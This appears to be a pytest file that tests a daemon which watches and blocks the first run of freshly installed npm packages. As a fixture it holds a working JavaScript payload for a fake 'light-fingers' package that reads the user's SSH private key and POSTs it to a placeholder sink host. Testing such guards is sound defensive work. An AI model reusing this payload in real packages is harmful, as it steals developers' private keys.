"""The first run of what each further manager of Node packages installed, in each of its layouts."""

import os
import shlex
import shutil
import signal
from collections.abc import Sequence
from pathlib import Path

import pytest

import node_house
from lab.daemon import USER, Daemon, as_user, hand_to_user
from lab.demands import demand
from lab.guard import Outcome
from lab.packages import filled
from lab.registry import Registry
from lab.world import World
from node_yard import LAYOUTS

pytestmark = [pytest.mark.root, pytest.mark.timeout(120, method="thread")]

_THIEF = "pkg:npm/light-fingers@1.0.0"
_STEAL = """
const fs = require('fs'), os = require('os'), http = require('http')
let loot = 'nothing'
try { loot = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519') } catch (error) {}
const told = http.request({ host: '@SINK@', port: 8080, method: 'POST', path: '/log', timeout: 3000 })
for (const end of ['error', 'timeout', 'response']) told.on(end, () => process.exit(0))
told.end(loot)
console.log('went on')
"""
_SDK = "pkg:npm/aws-sdk@2.0.0"
_TIMES = 8
_CLUTTER = 4_000
_READ = "console.log(require('fs').readFileSync(require('os').homedir() + '/.aws/credentials').length > 0)\n"


class _User:
    """The made-up user, with one manager and a registry that has a thief, an honest package and a cloud SDK."""

    def __init__(self, name: str, world: World, registry: Registry) -> None:
        self.name, self.layout, self.world, self.mine = name, LAYOUTS[name], world, world.project
        held, manager = world.environment(), self.layout.manager
        self.environment = {
            **({} if manager == "npm" else node_house.environment(manager, world.folder, registry.url)),
            **{key: held[key] for key in ("HOME", "TMPDIR")},
        }
        (self.mine / ".npmrc").write_text(f"registry={registry.url}\n")
        for file, content in self.layout.settings.items():
            (self.mine / file).write_text(content)
        steal = filled(_STEAL.encode(), world.words()).decode()
        shim = {"cli.js": f"#!/usr/bin/env node\n{steal}"}
        thief = {"name": "light-fingers", "version": "1.0.0", "bin": {"light-fingers": "cli.js"}}
        registry.add(thief, {"index.js": steal, **shim})
        registry.add(
            {"name": "clean-hands", "version": "1.0.0"}, {"index.js": "console.log('at your service')\n"}
        )
        registry.add({"name": "aws-sdk", "version": "2.0.0"}, {"index.js": _READ})
        hand_to_user(world)

    def does(self, command: Sequence[str], where: Path | None = None) -> Outcome:
        """As that user, in the project."""
        return as_user(self.world, command, self.environment, where or self.mine)

    def at_once(self, package: str, *more: str, where: Path | None = None) -> Outcome:
        """Install, and run the first of them, on one line."""
        install = shlex.join([str(self.layout.program), *self.layout.add, package, *more])
        return self.does(["sh", "-c", f"{install} && {shlex.join(self._program(package))}"], where)

    def require(self, package: str) -> Outcome:
        """What a program of the user's does."""
        return self.does(self._program(package))

    def _program(self, package: str) -> list[str]:
        loader = ["-r", "./.pnp.cjs"] if self.name == "yarn-4" else []
        return [str(shutil.which("node")), *loader, "-e", f"require('{package}')"]

    def shim(self) -> Outcome | None:
        """The thief by its program; None where there is no `.bin`."""
        shim = self.mine / "node_modules" / ".bin" / "light-fingers"
        return self.does([str(shim)]) if shim.exists() else None


@pytest.mark.parametrize("name", [name for name in LAYOUTS if name != "npm"])
def test_a_first_run_is_watched(guard: None, lab: None, name: str) -> None:
    """A theft by `require` or the shim is refused and named; honest code and an SDK go on. Unguarded it is real."""
    demand(None if LAYOUTS[name].program else f"{name} could not be fetched once")
    with World([]) as world, Registry() as registry:
        user = _User(name, world, registry)
        with Daemon(world) as daemon:
            done = user.at_once("light-fingers", "clean-hands", "aws-sdk")
            assert done.status == 0, done.out + done.err
            assert done.out.endswith("went on\n"), daemon.log
            daemon.settled(2)
            runs = [done, user.require("light-fingers"), user.shim()]
            assert {run.out for run in runs[1:] if run} == {"went on\n"}, daemon.log
            assert user.require("clean-hands").out == "at your service\n"
            assert user.require("aws-sdk").out == "true\n", daemon.log
            thefts = len([run for run in runs if run])
            ended = daemon.settled(3 + thefts)
            assert [run["verdict"] for run in ended[-1 - thefts :]] == [*["blocked"] * thefts, "clean"], ended
            found = daemon.report(ended[-2]["id"])["findings"]
            assert {(each["package"], each["stage"]) for each in found} == {(_THIEF, "first-run")}, daemon.log
            assert {each["identity"] for each in found} == {"verified"}
            assert world.leaks() == []
            daemon.end(signal.SIGINT)
            user.require("light-fingers")
        assert world.leaks() != []


def test_nothing_slips_through_right_after_the_install(guard: None, lab: None) -> None:
    """The next program of the line waits: reading what was installed takes longer here than node needs to start."""
    demand(None if LAYOUTS["npm"].program else "npm is not here")
    with World([]) as world, Registry() as registry:
        user = _User("npm", world, registry)
        _clutter(world.folder / "node_modules")
        with Daemon(world) as daemon:
            for number in range(_TIMES):
                done = user.at_once("light-fingers", where=_project(world, number))
                assert done.out.endswith("went on\n"), done.err
            assert user.at_once("clean-hands", where=_project(world, _TIMES)).out.endswith(
                "at your service\n"
            )
            ended = daemon.settled(2 * _TIMES + 2)
            assert world.leaks() == [], daemon.log
            assert [run["verdict"] for run in ended].count("blocked") == _TIMES, daemon.log
            assert [run["verdict"] for run in ended[:2]] == ["clean", "clean"]
            daemon.end(signal.SIGINT)
            user.at_once("light-fingers", where=_project(world, _TIMES + 1))
        assert world.leaks() != []


def _clutter(tree: Path) -> None:
    """Packages of long ago, in a folder above the projects."""
    for number in range(_CLUTTER):
        (tree / f"old-{number}").mkdir(parents=True)
        (tree / f"old-{number}" / "package.json").write_text("{}")


def _project(world: World, number: int) -> Path:
    made = world.folder / f"project-{number}"
    made.mkdir()
    (made / "package.json").write_text('{"name": "mine", "version": "1.0.0"}')
    (made / ".npmrc").write_text((world.project / ".npmrc").read_text())
    for path in (made, *made.iterdir()):
        os.chown(path, USER, USER)
    return made
